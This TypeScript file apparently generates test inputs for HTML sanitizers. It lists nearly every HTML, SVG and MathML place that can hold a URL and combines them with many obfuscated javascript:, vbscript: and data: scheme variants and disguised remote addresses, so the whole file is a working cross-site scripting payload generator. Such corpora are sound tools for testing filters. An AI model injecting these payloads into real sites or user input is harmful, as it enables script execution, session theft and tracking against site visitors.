/** Every place in HTML that holds an address, with one that runs a script and one that would be asked for. */

/** Where an address may stand: `@` is it. */
const PLACES = [
  '<a href="@">x</a>',
  '<a href="#" ping="@">x</a>',
  '<a href="@" target=_blank>x</a><a href="@" target=_top download>x</a><a href="@" rel=opener>x</a>',
  '<area href="@"><map name=m><area shape=default href="@"></map><img usemap=#m src=x: ismap>',
  '<form action="@"><input type=submit id=s></form><label for=s>x</label>',
  '<form><button formaction="@">x</button><input type=image src="@" formaction="@"></form>',
  '<isindex action="@" type=submit>',
  '<iframe src="@"></iframe>',
  "<iframe srcdoc=\"<img src='@'><script src='@'></script>\"></iframe>",
  '<iframe src="data:text/html,<script src=@></script>"></iframe>',
  '<frameset><frame src="@"></frameset>',
  '<fencedframe src="@"></fencedframe><portal src="@"></portal><webview src="@" preload="@"></webview>',
  '<object data="@"></object><object classid="@" codebase="@" archive="@"><param name=src value="@"></object>',
  '<embed src="@"><embed code="@"><applet code="@" codebase="@" archive="@"></applet>',
  '<base href="@"><img src=relative.png><a href=relative>x</a>',
  '<link rel=stylesheet href="@">',
  ...'icon prefetch dns-prefetch preconnect preload modulepreload prerender manifest import next pingback search alternate apple-touch-icon compression-dictionary'
    .split(' ')
    .map((rel) => `<link rel="${rel}" href="@" as=script crossorigin>`),
  '<link rel=preload as=image imagesrcset="@ 1x" imagesizes=1px>',
  '<meta http-equiv=refresh content="0;url=@">',
  '<meta http-equiv=refresh content="0;@"><meta http-equiv=set-cookie content="a=b">',
  '<meta http-equiv=Content-Security-Policy content="default-src *; report-uri @"><meta name=referrer content=unsafe-url>',
  '<meta http-equiv=Link content="<@>; rel=preload; as=image">',
  '<img src="@">',
  '<img srcset="@ 1x, @ 2x" sizes=1px>',
  '<img lowsrc="@" dynsrc="@" longdesc="@" usemap="@" src=x:><image src="@">',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='@'/><script href='@'/></svg>\">",
  '<picture><source srcset="@"><img src=x:></picture>',
  '<video src="@" poster="@" autoplay></video><video><source src="@"><track default src="@"></video>',
  '<audio src="@" autoplay></audio><audio><source src="@"></audio><bgsound src="@">',
  '<script src="@"></script><script type=module src="@"></script>',
  '<script>import("@")</script><script>fetch("@")</script><script>new Image().src="@"</script>',
  '<style>@import "@";</style>',
  '<style>*{background:url("@");list-style:url("@");cursor:url("@"),auto;border-image:url("@")}</style>',
  '<style>@font-face{font-family:x;src:url("@")}body{font-family:x}</style>',
  '<style>*{background:image-set("@" 1x);-webkit-mask:url("@");filter:url("@#f");content:url("@")}</style>',
  '<style>[href^="h"]{background:url("@")}</style><style media=print>@import url(@)</style>',
  '<p style="background:url(\'@\')">x</p><p style="b\\ackground-image:url(@)">x</p>',
  '<p style="behavior:url(@);-moz-binding:url(@);width:expression(@)">x</p>',
  '<p style="--x:url(@);background:var(--x);list-style-image:url(@)">x</p>',
  '<body background="@"><table background="@"><tr><td background="@">x</td></tr></table>',
  '<html manifest="@"><head profile="@">x',
  '<blockquote cite="@">x</blockquote><q cite="@">x</q><del cite="@">x</del><ins cite="@">x</ins>',
  '<svg><a href="@"><text y=9>x</text></a><a xlink:href="@"><text y=9>x</text></a></svg>',
  '<svg><image href="@" width=9 height=9 /><image xlink:href="@" width=9 height=9 /></svg>',
  '<svg><use href="@#x"/><use xlink:href="@#x"/></svg>',
  '<svg><script href="@"></script><script xlink:href="@"></script></svg>',
  '<svg><filter id=f><feImage href="@"/></filter><rect filter="url(@)" fill="url(@)" mask="url(@)" width=9 height=9 /></svg>',
  '<svg><a><animate attributeName=href to="@" begin=0s /><text y=9>x</text></a><a><set attributeName=href to="@"/></a></svg>',
  '<svg><a><animate attributeName=xlink:href values="@;x" /><animateMotion href="@"/></a><image><animate attributeName=href from="@" to="@"/></image></svg>',
  '<svg><foreignObject width=9 height=9><iframe src="@"></iframe><img src="@"></foreignObject></svg>',
  '<svg><style>@import "@";</style><defs><font-face><font-face-src><font-face-uri href="@"/></font-face-src></font-face></defs></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>@</handler><listener handler="@"/></svg>',
  '<math href="@">x</math><math><mi xlink:href="@">x</mi><maction actiontype=statusline href="@">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><iframe src="@"></iframe><img src="@"></annotation-xml></math>',
  '<xml src="@" id=x></xml><div datasrc=#x datafld=y dataformatas=html></div>',
  '<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type=simple xlink:href="@" xlink:actuate=onLoad>x</x>',
  '<div itemscope itemtype="@" itemid="@"><link itemprop=x href="@"></div><nav resource="@" about="@" src="@">x</nav>',
  '<template><img src="@"></template><div><template shadowrootmode=open><img src="@"><style>@import "@"</style></template></div>',
  '<noscript><img src="@"><meta http-equiv=refresh content="0;url=@"></noscript>'
]

/** Ways to write a scheme that runs. `js` holds no quotes. */
const running = (js: string): string[] => [
  `javascript:${js}`,
  `JaVaScRiPt:${js}`,
  `&#106;&#97;vascript:${js}`,
  `&#x6A&#x61vascript:${js}`,
  `&#0000106avascript:${js}`,
  `java&#9;script:${js}`,
  `java&Tab;script&colon;${js}`,
  `java\nscript:${js}`,
  `java&NewLine;script:${js}`,
  `&#1;javascript:${js}`,
  `&#x1F;&#32;\t javascript:${js}`,
  `\u00A0javascript:${js}`,
  `\u200Bjavascript:${js}`,
  `\uFEFFjavascript:${js}`,
  `java\0script:${js}`,
  `javascript&#x3A;//%0A${js}`,
  `javascript://x/%0a${js}`,
  `feed:javascript:${js}`,
  `view-source:javascript:${js}`,
  `jar:javascript:${js}!`,
  `vbscript:${js}`,
  `livescript:${js}`,
  `data:text/html,<script>${js}</script>`,
  `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
  `data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${js}</script></x>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
  `data:text/javascript,${js}`,
  `data:,${js}`,
  `blob:null/${js}`,
  `filesystem:${js}`,
  `about:srcdoc`
]

/** Ways to write an address that is asked for. */
const asking = (address: string): string[] => [
  address,
  address.replace('http:', ''),
  address.replace('http://', 'http:\\\\'),
  address.replace('http://', 'ht\ttp:/\n/'),
  `&#x20;${address.toUpperCase().replace('HIT', 'hit')}`
]

export function addresses(js: string, address: string): string[] {
  const put = (place: string, value: string): string =>
    place.replaceAll(/(?<!\w)@(?!import|font|keyframes)/g, () => value)
  const some = PLACES.filter((place) =>
    /^<(a href="@">|form action|iframe src="@|object data|embed src|svg><a href|math href)/.test(place)
  )
  return [
    ...PLACES.flatMap((place) => [put(place, address), put(place, `javascript:${js}`)]),
    ...some.flatMap((place) => running(js).map((value) => put(place, value.replaceAll('"', '&quot;')))),
    ...some
      .concat('<img src="@">', '<link rel=stylesheet href="@">')
      .flatMap((place) => asking(address).map((value) => put(place, value)))
  ]
}
